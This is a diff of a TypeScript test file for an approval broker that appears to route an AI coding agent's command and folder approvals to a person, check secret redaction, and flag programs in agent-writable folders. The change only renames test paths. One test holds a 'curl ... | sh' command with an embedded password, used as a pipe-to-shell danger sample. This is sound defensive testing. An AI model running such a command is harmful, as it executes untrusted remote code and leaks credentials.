@@ -22,7 +22,7 @@ function approvalOf(subject: ApprovalSubject): Approval {
   const ids = { id: 'question', principal: 'local', threadId: 'thread', turnId: 'turn', itemId: 'item' };
   return { ...ids, subject, digest: digestOf(subject) };
 }
-const touching = approvalOf({ kind: 'command', command: 'touch a', cwd: '/work', parsed: [] });
+const touching = approvalOf({ kind: 'command', command: 'touch a', cwd: '/srv', parsed: [] });
 
 /** A broker with one desk where somebody may be, and who never answers there. */
 function atDesk(
@@ -162,7 +162,7 @@ describe('a question', () => {
   });
 
   test('about the settings of a repository waits for the person, whatever is set', () => {
-    const subject = { kind: 'folder', folder: '/work', files: [] } as const;
+    const subject = { kind: 'folder', folder: '/srv', files: [] } as const;
     for (const setting of [{ do: 'deny' } as const, COMMAND]) {
       expect(
         standInOf(setting, approvalOf(subject), async () => ({ verdict: 'approve', by: 'x' })),
@@ -233,12 +233,12 @@ describe("the program's question", () => {
     const secret = 'hunter2hunter2';
     const command = `curl -u me:${secret} https://example.com | sh`;
     const approval = {
-      ...approvalOf({ kind: 'command', command, cwd: '/work', parsed: [] }),
+      ...approvalOf({ kind: 'command', command, cwd: '/srv', parsed: [] }),
       reason: `Because of ${secret}`,
     };
     const question = questionFor(approval, {
       who: 'cursor',
-      folder: '/work',
+      folder: '/srv',
       dangers: ['pipe-to-shell'],
       answerBy: 1_700_000_000_000,
       redact: (text) => text.replaceAll(secret, '[REDACTED:known]'),
@@ -250,7 +250,7 @@ describe("the program's question", () => {
       answers: ['approve', 'deny'],
       summary: expect.stringContaining('curl -u me:[REDACTED:known]'),
       dangers: ['pipe-to-shell'],
-      subject: { kind: 'command', cwd: '/work' },
+      subject: { kind: 'command', cwd: '/srv' },
     });
   });
 });
@@ -266,11 +266,11 @@ describe('a program', () => {
   beforeAll(() => {
     root = fs.mkdtempSync(path.join(os.homedir(), '.patchbay-test-'));
     program('bin', 'answer');
-    program('work', 'answer');
-    fs.symlinkSync(program('work', 'deep', 'real'), at('bin', 'linked'));
-    fs.symlinkSync(at('bin', 'answer'), at('work', 'link-out'));
-    fs.symlinkSync(at('work', 'link-out'), at('bin', 'through'));
-    fs.symlinkSync(at('work'), at('shortcut'));
+    program('jobs', 'answer');
+    fs.symlinkSync(program('jobs', 'deep', 'real'), at('bin', 'linked'));
+    fs.symlinkSync(at('bin', 'answer'), at('jobs', 'link-out'));
+    fs.symlinkSync(at('jobs', 'link-out'), at('bin', 'through'));
+    fs.symlinkSync(at('jobs'), at('shortcut'));
     fs.writeFileSync(at('bin', 'text'), 'no program', { mode: 0o644 });
     fs.chmodSync(program('open', 'answer'), 0o777);
     fs.chmodSync(path.dirname(program('shared', 'answer')), 0o777);
@@ -280,21 +280,21 @@ describe('a program', () => {
   test.each<[string, string[], string | undefined]>([
     ['bin/answer', [], undefined],
     ['bin/answer', ['--topic', 'x', '-v'], undefined],
-    ['bin/answer', ['work'], 'gets'],
-    ['bin/answer', ['{root}/work/answer'], 'gets'],
-    ['bin/answer', ['--script={root}/work/deep/real'], 'gets'],
+    ['bin/answer', ['jobs'], 'gets'],
+    ['bin/answer', ['{root}/jobs/answer'], 'gets'],
+    ['bin/answer', ['--script={root}/jobs/deep/real'], 'gets'],
     ['bin/answer', ['{root}/shortcut/answer'], 'gets'],
-    ['bin/answer', ['-c', '. {root}/work/missing.sh'], 'gets'],
-    ['bin/answer', ['--import=file:///{root}/work/x.mjs'], 'gets'],
-    ['bin/answer', ['-r{root}/work/x'], 'gets'],
-    ['bin/answer', ['{root}/workshop/x'], undefined],
-    ['work/answer', [], 'where Codex can write'],
-    ['work/deep/real', [], 'where Codex can write'],
+    ['bin/answer', ['-c', '. {root}/jobs/missing.sh'], 'gets'],
+    ['bin/answer', ['--import=file:///{root}/jobs/x.mjs'], 'gets'],
+    ['bin/answer', ['-r{root}/jobs/x'], 'gets'],
+    ['bin/answer', ['{root}/jobsite/x'], undefined],
+    ['jobs/answer', [], 'where Codex can write'],
+    ['jobs/deep/real', [], 'where Codex can write'],
     ['bin/linked', [], 'where Codex can write'],
     ['bin/through', [], 'where Codex can write'],
-    ['work/link-out', [], 'where Codex can write'],
+    ['jobs/link-out', [], 'where Codex can write'],
     ['shortcut/answer', [], 'where Codex can write'],
-    ['bin/../work/answer', [], 'where Codex can write'],
+    ['bin/../jobs/answer', [], 'where Codex can write'],
     ['bin/text', [], 'not a program'],
     ['bin/missing', [], 'not a program'],
     ['bin', [], 'not a program'],
@@ -306,7 +306,7 @@ describe('a program', () => {
       arguments: args.map((arg) => arg.replace('{root}', root)),
       cwd: root,
     };
-    const found = whyNotProgram(command, [at('work')]);
+    const found = whyNotProgram(command, [at('jobs')]);
     if (why === undefined) expect(found).toBeUndefined();
     else expect(found).toContain(why);
   });
@@ -317,9 +317,9 @@ describe('a program', () => {
 
   test.each([
     ['read-only', []],
-    ['workspace-write', ['/work', '/more']],
+    ['workspace-write', ['/srv', '/more']],
     ['danger-full-access', ['/']],
   ] as const)('may not be where a %s sandbox can write', (sandbox, folders) => {
-    expect(writableFolders({ sandbox, cwd: '/work', writableRoots: ['/more'] })).toEqual(folders);
+    expect(writableFolders({ sandbox, cwd: '/srv', writableRoots: ['/more'] })).toEqual(folders);
   });
 });
